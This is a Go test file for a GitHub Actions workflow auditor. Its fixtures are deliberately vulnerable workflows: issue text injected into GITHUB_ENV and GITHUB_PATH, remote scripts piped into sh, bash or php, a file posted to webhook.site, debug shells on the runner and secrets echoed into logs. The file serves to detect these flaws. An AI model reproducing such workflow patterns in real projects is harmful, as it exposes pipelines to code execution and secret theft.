package audit

import "testing"

func TestCheckEnvironmentFiles(t *testing.T) {
	const env = "        env: {TITLE: \"${{ github.event.issue.title }}\", BODY: \"${{ github.event.issue.body }}\"}\n"
	runBodyCheck(t, checkEnvironmentFiles, []checkCase{
		{"an attacker's text", stepsOn("issues", `
      - run: echo "T=$TITLE" >> $GITHUB_ENV
`+env), []string{"7 environment-injection high certain"}},
		{"one line of it", stepsOn("issues", `
      - run: echo "T=$(jq -r .issue.body $GITHUB_EVENT_PATH | head -n 1)" >> $GITHUB_ENV
`+env), []string{"7 environment-injection medium uncertain"}},
		{"a folder of commands", stepsOn("issues", `
      - run: echo "$BODY" >> $GITHUB_PATH
`+env), []string{"7 environment-injection high certain"}},
		{"what is not known", stepsOn("issues", `
      - run: echo "V=$(make version)" >> $GITHUB_ENV
`), []string{"7 environment-injection - - -1"}},
		{"fixed", stepsOn("issues", `
      - run: |
          echo "V=1" >> $GITHUB_ENV
          echo "$HOME/bin" >> $GITHUB_PATH
`), nil},
		{"an unprivileged event", stepsOn("push", `
      - run: echo "V=$(make version)" >> $GITHUB_ENV
`), nil},
		{"a script of GitHub's client", stepsOn("issues", `
      - uses: actions/github-script@v7
        with:
          script: |
            core.exportVariable('T', context.payload.issue.title);
      - uses: actions/github-script@v7
        with:
          script: |
            core.exportVariable('N', context.payload.issue.number);
`), []string{"7 environment-injection - -"}},
		{"a file that an attacker wrote", stepsOn("pull_request_target", `
      - uses: actions/checkout@v4
        with: {ref: "${{ github.head_ref }}"}
      - uses: xom9ikk/dotenv@v2
`), []string{"9 environment-injection high likely"}},
		{"a file of the base", stepsOn("pull_request_target", `
      - uses: actions/checkout@v4
      - uses: xom9ikk/dotenv@v2
`), nil},
	})
}

func TestCheckInsecureCommands(t *testing.T) {
	runBodyCheck(t, checkInsecureCommands, []checkCase{
		{"at every level", `on: push
env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"}
jobs:
  a:
    runs-on: x
    env: {actions_allow_unsecure_commands: 1}
    steps:
      - run: make
        env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: " TRUE "}
  b:
    runs-on: x
    steps:
      - run: make
        env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: "false"}
`, []string{"2 insecure-commands - -", "6 insecure-commands - -", "9 insecure-commands - -"}},
		{"an expression", stepsOn("push", `
      - run: make
        env: ${{ fromJSON(vars.ENV) }}
`), []string{"8 insecure-commands - uncertain"}},
	})
}

func TestCheckScripts(t *testing.T) {
	runBodyCheck(t, checkScripts, []checkCase{
		{"code and packages of the network", stepsOn("push", `
      - run: |
          curl https://example.com/install.sh | sh
          npm install left-pad
          npm ci
          make
      - uses: some/action@v1
`), []string{"8 remote-script - -", "9 adhoc-packages - - -1"}},
		{"a remote script beside a token that can write", `on: push
permissions: {contents: read}
jobs:
  reads:
    runs-on: x
    steps: [{run: "curl https://example.com/a | sh"}]
  releases:
    permissions: {issues: write, contents: write}
    runs-on: x
    steps: [{run: "curl https://example.com/a | php"}]
  comments:
    permissions: {issues: write}
    runs-on: x
    steps: [{run: "curl https://example.com/a | sh"}]
  all:
    permissions: write-all
    runs-on: x
    steps: [{run: "wget -qO- https://example.com/a | bash"}]
  none:
    permissions: {}
    runs-on: x
    steps: [{run: "curl https://example.com/a | sh"}]
`, []string{"6 remote-script - - -1", "10 remote-script - - +1", "14 remote-script - -", "18 remote-script - - +1", "22 remote-script - - -1"}},
		{"a service that shows requests", stepsOn("push", `
      - run: curl -d @file https://webhook.site/0123
`), []string{"7 request-collector - -"}},
	})
}

func TestCheckDebugging(t *testing.T) {
	runBodyCheck(t, checkDebugging, []checkCase{
		{"a door into the runner", stepsOn("push", `
      - uses: mxschmitt/action-tmate@v3
      - uses: lhotari/action-upterm@v1
        with: {limit-access-to-actor: true}
      - uses: mxschmitt/action-tmate@v3
        if: failure()
      - uses: lhotari/action-upterm@v1
        with: {limit-access-to-users: octocat}
`), []string{"7 debug-mode - -", "8 debug-mode low uncertain", "10 debug-mode low uncertain",
			"12 debug-mode low uncertain"}},
		{"debug settings", `on: push
env: {ACTIONS_STEP_DEBUG: "true"}
jobs:
  a:
    env: {ACTIONS_RUNNER_DEBUG: "${{ true }}"}
    runs-on: x
    steps:
      - run: make
        env: {actions_step_debug: "false", OTHER: "true"}
`, []string{"2 debug-mode - -", "5 debug-mode - -"}},
		{"secrets in the log", stepsOn("push", `
      - run: |
          echo ${{ secrets.A }}
          echo ${{ secrets.A }} | docker login
          echo ${{ secrets.A }} > file
      - run: |
          set -x
          env
        env: {A: "${{ secrets.A }}"}
      - run: |
          set -x
          env
`), []string{"8 secret-in-log - -", "12 secret-in-log - likely", "13 secret-in-log - likely"}},
	})
}
